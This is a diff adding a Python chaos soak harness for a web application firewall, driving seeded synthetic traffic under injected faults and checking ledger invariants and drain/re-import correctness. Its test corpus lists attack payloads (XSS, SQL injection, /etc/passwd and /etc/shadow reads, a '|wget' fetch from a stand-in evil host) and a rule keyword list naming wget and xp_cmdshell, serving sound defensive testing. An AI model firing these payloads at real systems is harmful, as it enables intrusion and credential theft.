@@ -1,0 +1,704 @@
+"""Chaos soak harness: production-shaped sustained load under phased
+fault schedules, with continuously-checked ledger invariants and a
+mid-storm drain/re-import proof.
+
+The contract under test (one sentence, two halves): **no admitted
+request is ever silently lost** — not under sustained heavy-tailed
+load, not mid fault-storm, not across a pod's graceful drain. Half 1
+lives here: ``SyntheticTraffic`` synthesizes benign traffic whose body
+lengths follow the heavy-tailed mixes the profiler's bucket histograms
+observe in production, blended with CRS-shaped attack payloads and
+streaming chunk splits; a ``ChaosSchedule`` ramps ``FaultInjector``
+rates through calm -> storm -> recovery windows while hot reloads and
+autotune swaps fire mid-soak; an ``InvariantMonitor`` asserts after
+every phase that admitted == resolved, audit events are exactly-once,
+no streams or trace contexts leaked, the breaker state machine stayed
+legal and every counter stayed monotone; a ``DifferentialReservoir``
+replays a seeded sample of admitted requests through ``ReferenceWaf``
+for bit-exact verdict parity even mid-storm. Half 2 — the drain state
+machine itself — lives in ``extproc/batcher.MicroBatcher.drain``; the
+``drain`` phase here is its proof engine: drain mid-soak, hand the
+exported stream state to a successor stack, and require the combined
+ledger to close exactly with the continued streams bit-identical to an
+uninterrupted run.
+
+Everything is seeded (``WAF_SOAK_SEED``) and CPU-runnable: the ≤60s
+``--smoke`` profile of ``tools/waf_soak.py`` is a tier-1 gate
+(``make soak-smoke``, ``tests/test_soak_smoke.py``).
+"""
+
+from __future__ import annotations
+
+import logging
+import threading
+import time
+from dataclasses import dataclass, field, replace as dc_replace
+
+from ..config import env as envcfg
+from ..engine.reference import ReferenceWaf
+from ..engine.transaction import HttpRequest
+from ..extproc.batcher import MicroBatcher
+from ..extproc.metrics import Metrics
+from ..runtime.resilience import FAULT_KINDS, CircuitBreaker, FaultInjector
+
+log = logging.getLogger("soak")
+
+# CRS-shaped attack corpus: one payload per family, URL- and body-borne
+# (the generator embeds them raw and percent-encoded, split across
+# stream chunks so carried-DFA scans cross token boundaries)
+ATTACKS = (
+    "<script>alert(document.cookie)</script>",
+    "onerror=alert(1)",
+    "javascript:eval('x')",
+    "1 UNION SELECT password FROM users--",
+    "' OR '1'='1",
+    "../../../../etc/passwd",
+    "php://input",
+    ";cat /etc/shadow",
+    "|wget http://evil.example/x.sh",
+    "xp_cmdshell",
+)
+
+_BENIGN_WORDS = ("widgets", "orders", "newsletter", "profile", "cart",
+                 "search", "checkout", "invoice", "catalog", "session")
+
+
+def build_soak_ruleset(idx: int) -> str:
+    """Per-tenant soak ruleset: distinct rule ids per tenant, 403-only
+    statuses (so a 503 in the soak is by construction a failure-policy
+    verdict, never a rule hit), and bare-REQUEST_BODY rows so streams
+    get carried-DFA lanes."""
+    rid = 910000 + idx * 100
+    return "\n".join([
+        "SecRuleEngine On",
+        "SecRequestBodyAccess On",
+        f'SecRule ARGS|REQUEST_URI "@rx (?i:<script[^>]*>)" '
+        f'"id:{rid},phase:2,deny,status:403,t:none,t:urlDecodeUni"',
+        f'SecRule ARGS|REQUEST_BODY "@rx (?i:union[\\s+]+select)" '
+        f'"id:{rid + 1},phase:2,deny,status:403,t:none,t:urlDecodeUni"',
+        f'SecRule REQUEST_BODY "@rx (?i:/etc/(passwd|shadow))" '
+        f'"id:{rid + 2},phase:2,deny,status:403,t:none"',
+        f'SecRule ARGS|REQUEST_BODY "@pm xp_cmdshell wget sqlmap '
+        f'passthru" "id:{rid + 3},phase:2,deny,status:403,'
+        f't:none,t:lowercase"',
+        f'SecRule REQUEST_URI "@contains php://" '
+        f'"id:{rid + 4},phase:2,deny,status:403,t:none,t:lowercase"',
+        f'SecRule REQUEST_BODY "@rx (?i:on(error|load|click)\\s*=)" '
+        f'"id:{rid + 5},phase:2,deny,status:403,t:none"',
+    ])
+
+
+class SyntheticTraffic:
+    """Seeded production-shaped request stream.
+
+    Benign body lengths are heavy-tailed (lognormal), landing across
+    the same shape-bucket ladder the profiler's per-bucket occupancy
+    histograms report — most requests small, a fat tail of multi-KB
+    bodies — with form/json/base64-ish charset mixes. A configurable
+    fraction carries an ATTACKS payload (raw or percent-encoded), and a
+    fraction arrives as a chunked stream with 2..5 seeded split points
+    (splits fall inside attack tokens as often as between them)."""
+
+    def __init__(self, tenants: list[str], seed: int = 7,
+                 attack_frac: float = 0.15,
+                 stream_frac: float = 0.3,
+                 max_body: int = 6144) -> None:
+        import random
+        self.tenants = list(tenants)
+        self.rng = random.Random(f"soak-traffic:{seed}")
+        self.attack_frac = attack_frac
+        self.stream_frac = stream_frac
+        self.max_body = max_body
+        self._n = 0
+
+    def _body_len(self) -> int:
+        # lognormal: median ~150B, p99 in the multi-KB buckets
+        return min(self.max_body, int(self.rng.lognormvariate(5.0, 1.3)))
+
+    def _benign_body(self, n: int) -> bytes:
+        rng = self.rng
+        kind = rng.random()
+        if kind < 0.5:  # form-encoded
+            parts = []
+            while sum(len(p) for p in parts) < n:
+                parts.append("%s=%s" % (rng.choice(_BENIGN_WORDS),
+                                        "%x" % rng.getrandbits(64)))
+            body = "&".join(parts)
+        elif kind < 0.8:  # json-ish
+            body = '{"q": "%s", "pad": "%s"}' % (
+                rng.choice(_BENIGN_WORDS), "a" * max(0, n - 32))
+        else:  # base64-ish blob
+            body = "blob=%s" % ("QUJD" * (max(1, n) // 4 + 1))[:n]
+        return body[:n].encode()
+
+    def _attack_body(self, n: int) -> bytes:
+        import urllib.parse
+        rng = self.rng
+        payload = rng.choice(ATTACKS)
+        if rng.random() < 0.5:
+            payload = urllib.parse.quote(payload)
+        pad = self._benign_body(max(0, n - len(payload) - 8)).decode(
+            "latin-1")
+        return ("note=%s&%s" % (payload, pad)).encode("latin-1")
+
+    def _chunks(self, body: bytes) -> list[bytes]:
+        rng = self.rng
+        if len(body) < 4:
+            return [body]
+        cuts = sorted(rng.sample(range(1, len(body)),
+                                 min(rng.randint(1, 4), len(body) - 1)))
+        out, prev = [], 0
+        for c in cuts:
+            out.append(body[prev:c])
+            prev = c
+        out.append(body[prev:])
+        return out
+
+    def next_item(self) -> dict:
+        rng = self.rng
+        self._n += 1
+        tenant = self.tenants[self._n % len(self.tenants)]
+        attack = rng.random() < self.attack_frac
+        n = self._body_len()
+        uri = "/%s?page=%d" % (rng.choice(_BENIGN_WORDS),
+                               rng.randint(1, 40))
+        if attack and rng.random() < 0.4:
+            import urllib.parse
+            uri = "/search?q=" + urllib.parse.quote(rng.choice(ATTACKS))
+            body = self._benign_body(n)
+        else:
+            body = self._attack_body(n) if attack else self._benign_body(n)
+        headers = [("Host", "soak.example.com"),
+                   ("Content-Type", "application/x-www-form-urlencoded")]
+        if rng.random() < self.stream_frac and body:
+            req = HttpRequest(method="POST", uri=uri, headers=headers,
+                              body=b"")
+            return {"kind": "stream", "tenant": tenant, "request": req,
+                    "chunks": self._chunks(body), "body": body}
+        req = HttpRequest(method="POST" if body else "GET", uri=uri,
+                          headers=headers, body=body)
+        return {"kind": "buffered", "tenant": tenant, "request": req}
+
+
+@dataclass
+class SoakPhase:
+    """One window of the chaos schedule: how many requests to drive,
+    which fault rates are in force, and which lifecycle events fire
+    mid-phase."""
+
+    name: str
+    requests: int
+    rates: dict = field(default_factory=dict)
+    hot_reload: bool = False
+    autotune: bool = False
+    drain: bool = False
+
+
+class ChaosSchedule:
+    """Phased fault-rate ramp: applies each phase's rates to the shared
+    FaultInjector (every kind not named is reset to 0.0, so phases are
+    absolute, not cumulative)."""
+
+    STORM_RATES = {
+        "device-exception": 0.08,
+        "device-stall": 0.04,
+        "device-slow": 0.2,
+        "stream-scan-failure": 0.15,
+        "compile-failure": 0.5,     # fires on mid-storm hot reloads
+        "cache-read-failure": 0.1,
+        "cache-write-failure": 0.1,
+    }
+
+    def __init__(self, phases: list[SoakPhase]) -> None:
+        self.phases = list(phases)
+
+    @classmethod
+    def default(cls, n_requests: int) -> "ChaosSchedule":
+        calm = max(8, int(n_requests * 0.35))
+        storm = max(8, int(n_requests * 0.40))
+        drain = max(8, n_requests - calm - storm)
+        return cls([
+            SoakPhase("calm", calm),
+            SoakPhase("storm", storm, rates=dict(cls.STORM_RATES),
+                      hot_reload=True, autotune=True),
+            SoakPhase("drain", drain, drain=True),
+        ])
+
+    def apply(self, fault: "FaultInjector | None",
+              phase: SoakPhase) -> None:
+        if fault is None:
+            return
+        for kind in FAULT_KINDS:
+            fault.set_rate(kind, float(phase.rates.get(kind, 0.0)))
+
+
+class InvariantMonitor:
+    """Continuously-checked ledger invariants over one or more batcher
+    stacks (predecessor + drain successor count as one ledger).
+
+    After each phase quiesces: admitted == resolved (zero unresolved
+    futures), audit events exactly-once (one per inspect attempt + one
+    per stream-begin attempt, across all registered pipelines), zero
+    open streams and zero open trace contexts, breaker state legality,
+    and monotone counters phase-over-phase."""
+
+    _BREAKER_STATES = (CircuitBreaker.CLOSED, CircuitBreaker.HALF_OPEN,
+                       CircuitBreaker.OPEN)
+
+    def __init__(self) -> None:
+        self._lock = threading.Lock()
+        self._batchers: dict[str, MicroBatcher] = {}
+        self._prev: dict[str, dict] = {}
+        self._prev_breaker: dict[str, dict] = {}
+        self.attempts = {"inspect": 0, "stream_begin": 0}
+        self.violations: list[str] = []
+        self.checks = 0
+
+    def register(self, label: str, batcher: MicroBatcher) -> None:
+        with self._lock:
+            self._batchers[label] = batcher
+
+    def batchers(self) -> dict:
+        with self._lock:
+            return dict(self._batchers)
+
+    def note(self, kind: str) -> None:
+        with self._lock:
+            self.attempts[kind] += 1
+
+    def _flat_counters(self, snap: dict) -> dict:
+        return {k: v for k, v in snap.items()
+                if k.endswith("_total") and isinstance(v, int)}
+
+    def check_phase(self, phase: str) -> list[str]:
+        """Run every invariant; returns (and records) the violations."""
+        bad: list[str] = []
+        with self._lock:
+            batchers = dict(self._batchers)
+            expected_events = (self.attempts["inspect"]
+                               + self.attempts["stream_begin"])
+        unresolved = emitted = open_streams = open_traces = 0
+        for label, b in batchers.items():
+            snap = b.metrics.snapshot()
+            unresolved += b.metrics.unresolved()
+            emitted += b.events.stats()["emitted_total"]
+            open_streams += b.streams.open_count()
+            open_traces += b.recorder.stats().get("open_traces", 0)
+            # breaker legality: known state, trip/recovery counters sane
+            brk = b.breaker.snapshot()
+            if brk["state"] not in self._BREAKER_STATES:
+                bad.append(f"{phase}/{label}: illegal breaker state "
+                           f"{brk['state']!r}")
+            if brk["recoveries_total"] > brk["open_total"]:
+                bad.append(f"{phase}/{label}: breaker recovered "
+                           f"{brk['recoveries_total']}x but only opened "
+                           f"{brk['open_total']}x")
+            prev_brk = self._prev_breaker.get(label)
+            if prev_brk is not None:
+                for k in ("open_total", "probe_total",
+                          "recoveries_total"):
+                    if brk[k] < prev_brk[k]:
+                        bad.append(f"{phase}/{label}: breaker counter "
+                                   f"{k} went backwards")
+            self._prev_breaker[label] = brk
+            # counter monotonicity across phases
+            flat = self._flat_counters(snap)
+            prev = self._prev.get(label)
+            if prev is not None:
+                for k, v in flat.items():
+                    if k in prev and v < prev[k]:
+                        bad.append(f"{phase}/{label}: counter {k} went "
+                                   f"backwards ({prev[k]} -> {v})")
+            self._prev[label] = flat
+        if unresolved:
+            bad.append(f"{phase}: {unresolved} admitted request(s) "
+                       f"unresolved after quiesce")
+        if emitted != expected_events:
+            bad.append(f"{phase}: audit events not exactly-once — "
+                       f"{emitted} emitted vs {expected_events} "
+                       f"terminalized requests/streams")
+        if open_streams:
+            bad.append(f"{phase}: {open_streams} stream(s) leaked open")
+        if open_traces:
+            bad.append(f"{phase}: {open_traces} trace context(s) leaked")
+        with self._lock:
+            self.violations.extend(bad)
+            self.checks += 1
+        return bad
+
+
+class DifferentialReservoir:
+    """Seeded reservoir sample of admitted (request, device verdict)
+    pairs, replayed through ReferenceWaf at soak end for bit-exact
+    parity. Failure-policy verdicts (status 503 by construction — soak
+    rulesets only deny with 403) are load-shed outcomes, not rule
+    verdicts, and are skipped."""
+
+    def __init__(self, capacity: int | None = None,
+                 seed: int = 7) -> None:
+        import random
+        if capacity is None:
+            capacity = envcfg.get_int("WAF_SOAK_RESERVOIR")
+        self.capacity = max(1, capacity)
+        self.rng = random.Random(f"soak-reservoir:{seed}")
+        self._lock = threading.Lock()
+        self._seen = 0
+        self.samples: list[tuple] = []
+
+    def offer(self, tenant: str, request: HttpRequest, verdict) -> None:
+        if verdict is None or verdict.status == 503:
+            return  # shed/policy outcome: nothing to replay
+        with self._lock:
+            self._seen += 1
+            if len(self.samples) < self.capacity:
+                self.samples.append((tenant, request, verdict))
+            else:
+                j = self.rng.randrange(self._seen)
+                if j < self.capacity:
+                    self.samples[j] = (tenant, request, verdict)
+
+    def replay(self, refs: dict) -> dict:
+        """Replay every sample through the tenant's ReferenceWaf and
+        compare (allowed, status, rule_id) bit-exactly."""
+        mismatches = []
+        with self._lock:
+            samples = list(self.samples)
+        for tenant, request, got in samples:
+            want = refs[tenant].inspect(request)
+            if (got.allowed, got.status, got.rule_id) != (
+                    want.allowed, want.status, want.rule_id):
+                mismatches.append({
+                    "tenant": tenant, "uri": request.uri,
+                    "got": [got.allowed, got.status, got.rule_id],
+                    "want": [want.allowed, want.status, want.rule_id]})
+        return {"samples": len(samples), "mismatches": len(mismatches),
+                "detail": mismatches[:5]}
+
+
+class SoakRunner:
+    """Drives one full soak: build tenants on a real engine + batcher,
+    run the chaos schedule with worker threads, check invariants after
+    every phase, and (in the drain phase) prove the zero-loss drain by
+    handing exported stream state to a successor stack."""
+
+    def __init__(self, engine_kind: str = "single",
+                 n_requests: int | None = None,
+                 seed: int | None = None,
+                 duration_s: float | None = None,
+                 n_tenants: int = 3, workers: int = 4,
+                 dp: int = 2,
+                 schedule: "ChaosSchedule | None" = None) -> None:
+        if seed is None:
+            seed = envcfg.get_int("WAF_SOAK_SEED")
+        if n_requests is None:
+            n_requests = max(24, envcfg.get_int("WAF_SOAK_REQUESTS"))
+        if duration_s is None:
+            duration_s = envcfg.get_float("WAF_SOAK_DURATION_S")
+        self.engine_kind = engine_kind
+        self.seed = seed
+        self.n_requests = n_requests
+        self.duration_s = max(0.0, duration_s)
+        self.workers = max(1, workers)
+        self.dp = dp
+        self.tenant_keys = [f"soak/t{i}" for i in range(n_tenants)]
+        self.texts = {k: build_soak_ruleset(i)
+                      for i, k in enumerate(self.tenant_keys)}
+        self.refs = {k: ReferenceWaf.from_text(t)
+                     for k, t in self.texts.items()}
+        self.fault = FaultInjector(seed=seed)
+        self.schedule = schedule or ChaosSchedule.default(n_requests)
+        self.monitor = InvariantMonitor()
+        self.reservoir = DifferentialReservoir(seed=seed)
+        self.traffic = SyntheticTraffic(self.tenant_keys, seed=seed)
+        # successful set_tenant calls in order: the successor replays
+        # this log so its reload/placement epochs match the exported
+        # stream stamps (a fresh engine with a different reload history
+        # would — correctly — refuse the import)
+        self._set_log: list[tuple[str, str]] = []
+        self._reloads = 0
+        self._deadline: float | None = None
+
+    # -- stack construction ------------------------------------------------
+    def _new_engine(self, fault: "FaultInjector | None"):
+        if self.engine_kind == "sharded":
+            from ..parallel.sharded_engine import ShardedEngine
+            return ShardedEngine(n_devices=self.dp, rp=1,
+                                 fault_injector=fault)
+        from ..runtime.multitenant import MultiTenantEngine
+        return MultiTenantEngine(fault_injector=fault)
+
+    def _new_batcher(self, engine) -> MicroBatcher:
+        b = MicroBatcher(engine, max_batch_size=32,
+                         max_batch_delay_us=300,
+                         configured=set(self.tenant_keys),
+                         metrics=Metrics())
+        b.start()
+        return b
+
+    def _load_tenants(self, engine, log_calls: bool) -> None:
+        for key in self.tenant_keys:
+            engine.set_tenant(key, ruleset_text=self.texts[key])
+            if log_calls:
+                self._set_log.append((key, self.texts[key]))
+
+    def _replay_engine(self):
+        """Successor engine with the predecessor's exact set_tenant
+        history, so stream-state epoch/version stamps line up."""
+        engine = self._new_engine(None)
+        for key, text in self._set_log:
+            engine.set_tenant(key, ruleset_text=text)
+        return engine
+
+    # -- mid-soak lifecycle events ----------------------------------------
+    def _hot_reload(self, engine) -> bool:
+        """Semantically-neutral reload (comment-only change): the
+        version hash and reload epoch advance, rule behavior does not —
+        so differential parity holds across the swap while every open
+        carry goes stale (and degrades to buffer-only)."""
+        self._reloads += 1
+        key = self.tenant_keys[self._reloads % len(self.tenant_keys)]
+        text = self.texts[key] + f"\n# soak reload {self._reloads}"
+        try:
+            engine.set_tenant(key, ruleset_text=text)
+        except Exception:
+            return False  # injected compile failure: old version serves
+        self.texts[key] = text
+        self._set_log.append((key, text))
+        return True
+
+    def _autotune_swap(self, batcher: MicroBatcher) -> dict:
+        """One closed-loop autotune round against the live profiler —
+        swap or no-op, the invariants must hold either way."""
+        try:
+            from ..autotune import AutoTuner
+            tuner = AutoTuner(batcher.engine, batcher.profiler)
+            out = tuner.run_once()
+            return {"ran": True,
+                    "applied": bool(out.get("applied",
+                                            out.get("swapped", False)))}
+        except Exception as e:
+            return {"ran": False, "error": type(e).__name__}
+
+    # -- driving -----------------------------------------------------------
+    def _over_budget(self) -> bool:
+        return (self._deadline is not None
+                and time.monotonic() > self._deadline)
+
+    def _drive_item(self, batcher: MicroBatcher, item: dict):
+        if item["kind"] == "buffered":
+            self.monitor.note("inspect")
+            v = batcher.inspect(item["tenant"], item["request"],
+                                timeout=30.0)
+            self.reservoir.offer(item["tenant"], item["request"], v)
+            return v
+        self.monitor.note("stream_begin")
+        sid, v = batcher.stream_begin(item["tenant"], item["request"])
+        if sid is None:
+            return v
+        try:
+            for chunk in item["chunks"]:
+                if batcher.stream_chunk(sid, chunk) is not None:
+                    break  # early-blocked: remaining chunks are moot
+            return batcher.stream_end(sid, timeout=30.0)
+        except KeyError:
+            return None  # TTL-expired mid-storm: its one event emitted
+
+    def _drive(self, batcher: MicroBatcher, items: list[dict]) -> int:
+        """Fan items over worker threads; returns how many were driven
+        (the wall-time budget may truncate the tail)."""
+        it = iter(items)
+        lock = threading.Lock()
+        driven = [0]
+        errors: list[str] = []
+
+        def worker() -> None:
+            while True:
+                if self._over_budget():
+                    return
+                with lock:
+                    item = next(it, None)
+                    if item is None:
+                        return
+                    driven[0] += 1
+                try:
+                    self._drive_item(batcher, item)
+                except Exception as e:  # an invariant breach, not chaos
+                    errors.append(f"{type(e).__name__}: {e}")
+        threads = [threading.Thread(target=worker, daemon=True)
+                   for _ in range(self.workers)]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join()
+        if errors:
+            self.monitor.violations.extend(
+                f"driver error: {e}" for e in errors[:5])
+        return driven[0]
+
+    def _run_phase(self, batcher: MicroBatcher,
+                   phase: SoakPhase) -> dict:
+        t0 = time.monotonic()
+        self.schedule.apply(self.fault, phase)
+        items = [self.traffic.next_item() for _ in range(phase.requests)]
+        half, rest = items[:len(items) // 2], items[len(items) // 2:]
+        driven = self._drive(batcher, half)
+        detail: dict = {}
+        if phase.hot_reload:
+            detail["hot_reload_ok"] = self._hot_reload(batcher.engine)
+        if phase.autotune:
+            detail["autotune"] = self._autotune_swap(batcher)
+        driven += self._drive(batcher, rest)
+        bad = self.monitor.check_phase(phase.name)
+        return {"name": phase.name, "requests": driven,
+                "seconds": round(time.monotonic() - t0, 3),
+                "violations": bad, **detail}
+
+    # -- the drain/re-import proof ----------------------------------------
+    def _run_drain_phase(self, batcher: MicroBatcher,
+                         phase: SoakPhase) -> tuple[dict, MicroBatcher]:
+        """Recovery traffic, then drain mid-service with streams still
+        open, hand the export to a fresh successor stack, finish the
+        streams there and require bit-identical verdicts vs the
+        reference on the full body."""
+        t0 = time.monotonic()
+        self.schedule.apply(self.fault, phase)  # recovery: rates -> 0
+        items = [self.traffic.next_item() for _ in range(phase.requests)]
+        stream_idx = [i for i, it in enumerate(items)
+                      if it["kind"] == "stream"][:6]
+        streams = [items[i] for i in stream_idx]
+        rest = [it for i, it in enumerate(items) if i not in stream_idx]
+        driven = self._drive(batcher, rest)
+        # open streams and feed all but the final chunk: these are the
+        # in-flight bodies the pod must not lose at SIGTERM
+        held: list[dict] = []
+        for item in streams:
+            self.monitor.note("stream_begin")
+            sid, _ = batcher.stream_begin(item["tenant"],
+                                          item["request"])
+            if sid is None:
+                continue
+            resolved = False
+            for chunk in item["chunks"][:-1]:
+                if batcher.stream_chunk(sid, chunk) is not None:
+                    resolved = True  # early block: still exportable
+                    break
+            held.append({"sid": sid, "item": item,
+                         "resolved": resolved})
+        # short grace on purpose: the held streams CANNOT finish (their
+        # final chunk is withheld), so the drain must hit the deadline,
+        # export them, and still close its half of the ledger
+        summary = batcher.drain(timeout_s=1.0)
+        drained_health = batcher.health()
+        # post-drain admission must reject with the failure policy
+        self.monitor.note("inspect")
+        post_v = batcher.inspect(self.tenant_keys[0],
+                                 HttpRequest(method="GET", uri="/"),
+                                 timeout=5.0)
+        # -- successor stack: replayed epoch history, import, continue
+        succ = self._new_batcher(self._replay_engine())
+        self.monitor.register("successor", succ)
+        n_imported = succ.import_streams(summary["exported"],
+                                        strict=False)
+        continuation_mismatches = 0
+        for h in held:
+            if h["resolved"]:
+                continue
+            try:
+                for chunk in h["item"]["chunks"][-1:]:
+                    succ.stream_chunk(h["sid"], chunk)
+                v = succ.stream_end(h["sid"], timeout=30.0)
+            except KeyError:
+                continue  # refused import: failure-policy resolved
+            full = dc_replace(h["item"]["request"],
+                              body=h["item"]["body"])
+            want = self.refs[h["item"]["tenant"]].inspect(full)
+            if (v.allowed, v.status, v.rule_id) != (
+                    want.allowed, want.status, want.rule_id):
+                continuation_mismatches += 1
+        # the successor also serves fresh traffic (it is a real pod)
+        driven += self._drive(succ, [self.traffic.next_item()
+                                     for _ in range(8)])
+        bad = self.monitor.check_phase(phase.name)
+        if drained_health != "shedding":
+            bad.append(f"drain: health {drained_health!r} after drain "
+                       f"(readyz would not flip)")
+        if post_v.status != 503 and post_v.allowed is not True:
+            bad.append("drain: post-drain submit got a non-policy "
+                       f"verdict {post_v}")
+        if continuation_mismatches:
+            bad.append(f"drain: {continuation_mismatches} continued "
+                       f"stream(s) diverged from the reference")
+        self.monitor.violations.extend(
+            b for b in bad if b not in self.monitor.violations)
+        return ({"name": phase.name, "requests": driven,
+                 "seconds": round(time.monotonic() - t0, 3),
+                 "drain_seconds": round(summary["seconds"], 3),
+                 "deadline_exceeded": summary["deadline_exceeded"],
+                 "exported": summary["exported_streams"],
+                 "imported": n_imported,
+                 "held_streams": len(held),
+                 "continuation_mismatches": continuation_mismatches,
+                 "chips": summary["chips"],
+                 "violations": bad}, succ)
+
+    def run(self) -> dict:
+        t0 = time.monotonic()
+        if self.duration_s:
+            self._deadline = t0 + self.duration_s
+        engine = self._new_engine(self.fault)
+        batcher = self._new_batcher(engine)
+        self._load_tenants(engine, log_calls=True)
+        self.monitor.register("predecessor", batcher)
+        phases = []
+        succ: "MicroBatcher | None" = None
+        try:
+            for phase in self.schedule.phases:
+                if phase.drain:
+                    detail, succ = self._run_drain_phase(batcher, phase)
+                else:
+                    detail = self._run_phase(batcher, phase)
+                phases.append(detail)
+        finally:
+            batcher.stop()
+            if succ is not None:
+                succ.stop()
+        diff = self.reservoir.replay(self.refs)
+        self.monitor.check_phase("final")
+        violations = list(dict.fromkeys(self.monitor.violations))
+        snaps = {label: b.metrics.snapshot()
+                 for label, b in self.monitor.batchers().items()}
+        admitted = sum(s["requests_admitted_total"]
+                       for s in snaps.values())
+        resolved = sum(s["requests_resolved_total"]
+                       for s in snaps.values())
+        ok = (not violations and diff["mismatches"] == 0
+              and admitted == resolved)
+        return {
+            "metric": "waf_soak",
+            "engine": self.engine_kind,
+            "seed": self.seed,
+            "seconds": round(time.monotonic() - t0, 3),
+            "phases": phases,
+            "admitted": admitted,
+            "resolved": resolved,
+            "unresolved": max(0, admitted - resolved),
+            "events_emitted": sum(
+                b.events.stats()["emitted_total"]
+                for b in self.monitor.batchers().values()),
+            "events_expected": (self.monitor.attempts["inspect"]
+                                + self.monitor.attempts["stream_begin"]),
+            "streams_exported": sum(s["streams_exported_total"]
+                                    for s in snaps.values()),
+            "streams_imported": sum(s["streams_imported_total"]
+                                    for s in snaps.values()),
+            "diff": diff,
+            "faults_fired": {k: v for k, v in self.fault.fired.items()
+                             if v},
+            "violations": violations,
+            "ok": ok,
+        }
+
+
+def run_soak(engine_kind: str = "single", **kw) -> dict:
+    """One-call entry for tools/waf_soak.py and the smoke tests."""
+    return SoakRunner(engine_kind=engine_kind, **kw).run()
